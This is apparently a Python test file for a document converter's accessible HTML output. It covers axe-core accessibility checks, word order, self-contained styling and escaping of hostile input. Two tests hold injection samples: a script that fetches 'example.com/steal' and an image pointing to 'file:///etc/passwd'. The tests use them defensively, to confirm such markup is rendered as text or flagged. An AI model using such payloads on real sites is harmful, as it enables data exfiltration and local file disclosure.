"""The accessible HTML page: axe-core in Chromium, self-contained, every word, same styles."""

from __future__ import annotations

from pathlib import Path

import pytest
from conftest import FIXTURES, SAMPLE, sample_and_corpus_params
from lxml import html
from test_xhtml import in_order, rendered_words

from converter import Options, api, profiles
from converter.check import CheckResult, check_file
from converter.check import html as html_check
from converter.words import words

HOSTILE = FIXTURES / "xml" / "pdf-hostile-text.xml"


def failures(results: list[CheckResult]) -> list[str]:
    return [f"{r.name}: {r.status} {list(r.details[:5])}" for r in results if r.status != "pass"]


@pytest.mark.parametrize("source", sample_and_corpus_params())
def test_axe_and_our_checks_pass(render, source: Path) -> None:
    results = check_file(render(source, "html"), Options()).results
    assert [r.name for r in results] == ["html-self-contained", "html-structure", "axe-core"]
    assert failures(results) == []


@pytest.mark.parametrize("source", sample_and_corpus_params())
def test_every_word_in_reading_order(render, source: Path) -> None:
    root = api.parse(source).getroot()
    page = html.document_fromstring(render(source, "html").read_bytes())
    found = words(" ".join(page.find("body").itertext()))
    assert in_order(rendered_words(root), found) == []


def test_axe_finds_violations_in_a_bad_page() -> None:
    """Negative control: axe really runs, and sees a page without language, alt or labels."""
    bad = "<!DOCTYPE html><html><head></head><body><img src='data:,'><input></body></html>"
    violations = html_check.run_axe(bad)
    ids = {line.split(" ", 1)[0] for line in violations}
    assert {"html-has-lang", "image-alt", "document-title"} <= ids


def test_self_contained_check_finds_external_resources() -> None:
    page = html.document_fromstring(
        "<html><head><link rel=stylesheet href='http://x/y.css'>"
        "<style>body{background:url(http://x/z.png)}</style></head>"
        "<body><img src='file:///etc/passwd'><script>1</script></body></html>"
    )
    assert len(html_check.self_contained_findings(page)) == 4


def test_same_styles_as_the_pdf(render) -> None:
    options = Options(profile="large-24", colours="yellow-on-black")
    page = html.document_fromstring(render(SAMPLE, "html", options).read_bytes())
    css = page.findtext(".//style")
    profile = profiles.print_profile(options)
    assert "font-size: 24pt" in css and profile.background in css and profile.link in css
    assert 'font-family: "Atkinson Hyperlegible"' in css and "data:font/ttf;base64," in css
    assert "font-style: normal; font-weight: bold" in css  # emphasis is bold, never italic


def test_markup_in_the_text_stays_text(render) -> None:
    data = render(HOSTILE, "html").read_bytes()
    page = html.document_fromstring(data)
    assert not page.findall(".//script") and not page.findall(".//img")
    body = " ".join(" ".join(page.find("body").itertext()).split())
    assert '<script>fetch("http://example.com/steal")</script>' in body
    assert "<img src=http://example.com/tracker.png" in body
    hrefs = [a.get("href") for a in page.iter("a")]
    assert "http://example.com/page" in hrefs
    assert not any(h.startswith(("file:", "javascript:")) for h in hrefs)
    assert failures(check_file(render(HOSTILE, "html"), Options()).results) == []
